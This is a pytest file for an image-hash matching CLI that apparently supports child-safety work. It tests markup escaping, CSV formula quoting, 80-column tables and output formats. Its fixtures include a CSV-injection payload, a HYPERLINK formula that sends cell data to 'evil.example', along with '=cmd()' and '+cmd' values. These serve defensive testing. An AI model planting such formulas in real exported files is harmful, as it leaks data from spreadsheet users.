"""Text from outside (bank names and sources, paths, URLs, page titles) is printed as it is and
written to CSV so that no spreadsheet runs it; tables fit 80 columns without cutting a URL to
`http…`; sightings and match take the shared output formats.

Each test here failed before: `bank create '[/x]'` committed and then every `bank list`
ended in a Rich MarkupError, as did `bank stats` of a source `[/bold]` and `match` of a path
holding `[/b]`; `sightings export`, `hash -o x.csv` and the listings wrote `=HYPERLINK(...)`
cells raw; `sightings list --format table` and `--json` were refused; `match --json` wrote JSON
Lines; `hash` left zips closed unless told.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from childguard.banks import EntryRecord, import_records
from childguard.cli import EXIT_FOUND, EXIT_OK, EXIT_USAGE, app
from childguard.cli.output import elide_middle
from childguard.crawl.hashing import hash_fetched
from childguard.crawl.sightings import SightingRecorder
from childguard.csv_safe import safe_cell, safe_row, unquote_cell
from childguard.store import Store, open_store
from match_factory import entry_match
from sample_media import jpeg_bytes

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
LONG_PAGE = "http://example.com/albums/2026/summer-camp/day-3/" + "x" * 60 + "/index.html"
LONG_IMAGE = "http://example.com/media/uploads/2026/12/" + "y" * 80 + "/photo.jpg"


def cg(*args: str, columns: int = 80) -> Any:
    return runner.invoke(app, list(args), env={"COLUMNS": str(columns)})


@pytest.fixture(scope="module")
def db(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """One SQLite store for the module: banks named and sourced with markup, and sightings
    whose page title is a formula and whose URLs are long."""
    path = tmp_path_factory.mktemp("outside") / "store.db"
    shutil.copyfile(sqlite_template, path)
    url = f"sqlite:///{path}"
    made = cg("bank", "create", "[/x]", "--kind", "known-abuse", "--db", url)
    assert made.exit_code == EXIT_OK, made.output
    allow = cg("bank", "create", "plain", "--kind", "allow", "--description", FORMULA, "--db", url)
    assert allow.exit_code == EXIT_OK, allow.output
    with open_store(url) as store:
        import_records(store, "[/x]", [EntryRecord("md5", "a" * 32)], actor="t", source="[/bold]")
        _sightings(store)
    return url


def _sightings(store: Store) -> None:
    hashes = hash_fetched(jpeg_bytes(5))
    match = entry_match(store, distance=3, bank="camp", bank_kind="protected")
    recorder = SightingRecorder(store, run_id=None, watch_name="w")
    recorder.page(LONG_PAGE, title=FORMULA, image_urls=[LONG_IMAGE], gone=False)
    recorder.image(LONG_IMAGE, page_url=LONG_PAGE, gone=False, hashes=hashes, matches=[match])
    recorder.finish()


# ------------------------------------------------------------------------------ markup


def test_a_bank_named_with_markup_is_listed_shown_and_counted(db: str) -> None:
    listed = cg("bank", "list", "--db", db, columns=120)
    assert listed.exit_code == EXIT_OK, listed.output
    assert "[/x]" in listed.stdout
    stats = cg("bank", "stats", "[/x]", "--db", db, columns=120)
    assert stats.exit_code == EXIT_OK, stats.output
    assert "source [/bold]" in stats.stdout
    shown = cg("bank", "show", "[/x]", "--db", db, columns=120)
    assert shown.exit_code == EXIT_OK and "[/x]" in shown.stdout


def test_errors_name_outside_text_as_it_is(db: str, tmp_path: Path) -> None:
    missing = cg("bank", "show", "[/nope]", "--db", db)
    assert missing.exit_code == EXIT_USAGE
    assert "[/nope]" in missing.stderr and "Traceback" not in missing.output
    gone = cg("match", str(tmp_path / "[red]gone[/b]"), "--db", db)
    assert gone.exit_code == EXIT_USAGE
    assert f"no such file or folder: {tmp_path / '[red]gone[/b]'}" in gone.stderr


def test_match_prints_a_path_holding_markup(db: str, tmp_path: Path) -> None:
    folder = tmp_path / "x["
    (folder / "b]").mkdir(parents=True)
    bad = folder / "b]" / "broken.jpg"  # the path holds `[/b]`
    bad.write_bytes(b"\xff\xd8 not a jpeg")
    done = cg("match", str(bad), "--plain", "-j", "1", "--db", db, columns=300)
    assert "Traceback" not in done.output and not isinstance(done.exception, Exception), (
        done.exception
    )
    assert str(bad) in done.stdout
    assert "0 file(s) matched, 1 failed" in done.stdout


# ----------------------------------------------------------------------------- formulas


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tpad", "'\tpad"),
        ("\rpad", "'\rpad"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-1e-3", "-1e-3"),
        (-3, -3),
        (2.5, 2.5),
        (None, ""),
        ("photo.jpg", "photo.jpg"),
    ],
)
def test_formula_cells_are_quoted_and_numbers_stay_numbers(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell
    if isinstance(cell, str):
        assert unquote_cell(cell) == ("" if value is None else str(value))


def test_sightings_export_quotes_a_page_title_formula(db: str, tmp_path: Path) -> None:
    done = cg("sightings", "export", "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert row["page_title"] == "'" + FORMULA
    assert row["distance"] == "3" and row["page_url"] == LONG_PAGE
    as_file = tmp_path / "sightings.csv"
    assert cg("sightings", "export", "-o", str(as_file), "--db", db).exit_code == EXIT_OK
    assert as_file.read_text().splitlines() == done.stdout.splitlines()


def test_listings_in_csv_quote_formulas(db: str) -> None:
    done = cg("bank", "list", "--format", "csv", "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
    assert rows["plain"]["description"] == "'" + FORMULA
    assert rows["[/x]"]["entries"] == "1"


def test_hash_csv_quotes_a_file_name_formula_and_resumes_over_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("=1+1.jpg").write_bytes(jpeg_bytes(7))
    Path("b.jpg").write_bytes(jpeg_bytes(8))
    done = cg("hash", "=1+1.jpg", "-o", "out.csv", "-j", "1")
    assert done.exit_code == EXIT_OK, done.output
    (row,) = csv.DictReader(io.StringIO(Path("out.csv").read_text()))
    assert row["path"] == "'=1+1.jpg"
    assert row["width"] == "320"
    again = cg("hash", "=1+1.jpg", "b.jpg", "-o", "out.csv", "--resume", "-j", "1")
    assert again.exit_code == EXIT_OK, again.output
    assert "1 already done" in again.stderr
    rows = list(csv.DictReader(io.StringIO(Path("out.csv").read_text())))
    assert [r["path"] for r in rows] == ["'=1+1.jpg", "b.jpg"]


def test_safe_row_is_every_cell() -> None:
    assert safe_row(["=a", 1, None, "b"]) == ["'=a", 1, "", "b"]


# ------------------------------------------------------------------------------ 80 columns


def test_elide_middle_keeps_host_and_file_name() -> None:
    assert elide_middle(LONG_IMAGE, 32) == "http://example.com/…/photo.jpg"
    assert elide_middle("http://example.com/a.jpg", 34) == "http://example.com/a.jpg"
    cut = elide_middle("x" * 50, 11)
    assert len(cut) == 11 and cut.startswith("xxxxx") and cut.endswith("xxxxx")
    short = elide_middle("https://a-very-long-host-name.example.org/" + "p" * 40, 30)
    assert len(short) <= 30 and short.startswith("https://") and "…" in short


def test_the_sightings_table_fits_80_columns_and_keeps_both_url_ends(db: str) -> None:
    done = cg("sightings", "list", "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    lines = done.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80, done.stdout
    assert "http://example.com/…/photo.jpg" in done.stdout
    assert "http://example.com/…/index.html" in done.stdout
    assert "http…" not in done.stdout
    assert "camp" in done.stdout  # the bank, as no photo of it is registered


def test_a_long_description_wraps_within_80_columns(db: str) -> None:
    done = cg("bank", "list", "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    assert max(len(line) for line in done.stdout.splitlines()) <= 80
    assert "…" not in done.stdout
    squeezed = "".join(ch for ch in done.stdout if ch not in " │┃\n")
    assert '=HYPERLINK("http://evil.example/?"&A1,"open")' in squeezed


# --------------------------------------------------------------------------- the formats


@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv"])
def test_sightings_list_takes_every_format(db: str, fmt: str) -> None:
    done = cg("sightings", "list", "--format", fmt, "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    if fmt == "json":
        (row,) = json.loads(done.stdout)
        assert row["page_title"] == FORMULA and row["bank"] == "camp"
    elif fmt == "jsonl":
        (line,) = done.stdout.splitlines()
        assert json.loads(line)["image_url"] == LONG_IMAGE
    elif fmt == "csv":
        (row,) = csv.DictReader(io.StringIO(done.stdout))
        assert row["image_url"] == LONG_IMAGE
    else:
        assert "page / image" in done.stdout


def test_sightings_json_short_form_and_suffix(db: str, tmp_path: Path) -> None:
    short = cg("sightings", "list", "--json", "--db", db)
    assert short.exit_code == EXIT_OK
    assert json.loads(short.stdout) == json.loads(
        cg("sightings", "export", "--json", "--db", db).stdout
    )
    target = tmp_path / "s.jsonl"
    assert cg("sightings", "export", "-o", str(target), "--db", db).exit_code == EXIT_OK
    assert json.loads(target.read_text().splitlines()[0])["page_url"] == LONG_PAGE
    both = cg("sightings", "list", "--json", "--format", "csv", "--db", db)
    assert both.exit_code == EXIT_USAGE


@pytest.fixture(scope="module")
def hit(db: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A photo whose MD5 is in the bank `[/x]`."""
    folder = tmp_path_factory.mktemp("hit")
    photo = folder / "hit.jpg"
    photo.write_bytes(jpeg_bytes(11))
    (folder / "miss.jpg").write_bytes(jpeg_bytes(12))
    md5 = json.loads(cg("hash", str(photo)).stdout)["md5"]
    with open_store(db) as store:
        import_records(store, "[/x]", [EntryRecord("md5", md5)], actor="t", source="=cmd()")
    return folder


def test_match_json_is_one_array_and_jsonl_a_line_each(db: str, hit: Path) -> None:
    args = ("match", str(hit), "--plain", "--no-dihedral", "-j", "1", "--db", db)
    as_json = cg(*args, "--json", "--all")
    assert as_json.exit_code == EXIT_FOUND, as_json.output
    records = json.loads(as_json.stdout)
    assert isinstance(records, list) and len(records) == 2
    by_name = {Path(r["path"]).name: r for r in records}
    assert by_name["hit.jpg"]["matches"][0]["bank_name"] == "[/x]"
    assert by_name["miss.jpg"]["matches"] == []
    lines = cg(*args, "--format", "jsonl")
    assert lines.exit_code == EXIT_FOUND
    (line,) = lines.stdout.splitlines()
    assert json.loads(line)["matches"][0]["source"] == "=cmd()"
    table = cg(*args, columns=200)
    assert "[/x]" in table.stdout and "=cmd()" in table.stdout
    as_csv = cg(*args, "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(as_csv.stdout))
    assert row["bank"] == "[/x]" and row["source"] == "'=cmd()" and row["distance"] == "0"


def test_match_json_with_nothing_matched_is_an_empty_array(db: str, hit: Path) -> None:
    done = cg("match", str(hit / "miss.jpg"), "--plain", "-j", "1", "--json", "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    assert json.loads(done.stdout) == []


def test_archives_are_opened_by_default_in_hash_match_and_scan(
    db: str, hit: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    with zipfile.ZipFile(folder / "batch.zip", "w") as zf:
        zf.writestr("x.jpg", jpeg_bytes(11))  # the photo whose MD5 is in `[/x]`
    hashed = cg("hash", str(folder), "-j", "1")
    assert hashed.exit_code == EXIT_OK and "hashed 1 files" in hashed.stderr
    closed = cg("hash", str(folder), "-j", "1", "--no-archives")
    assert "hashed 0 files, 0 failed, 1 skipped" in closed.stderr
    found = cg("match", str(folder), "--plain", "-j", "1", "--json", "--db", db)
    assert found.exit_code == EXIT_FOUND, found.output
    report = tmp_path / "report"
    scanned = cg("scan", str(folder), "--report", str(report), "--plain", "-j", "1", "--db", db)
    assert scanned.exit_code == EXIT_FOUND, scanned.output


def test_bank_export_quotes_a_source_formula(db: str, hit: Path, tmp_path: Path) -> None:
    target = tmp_path / "bank.csv"
    done = cg("bank", "export", "[/x]", "-o", str(target), "--db", db)
    assert done.exit_code == EXIT_OK, done.output
    sources = {r["source"] for r in csv.DictReader(io.StringIO(target.read_text()))}
    assert "'=cmd()" in sources and "=cmd()" not in sources
    again = cg("bank", "import", "[/x]", str(target), "--db", db)  # reads its own export back
    assert again.exit_code == EXIT_OK, again.output
    assert "0 added" in again.output or "added 0" in again.output, again.output
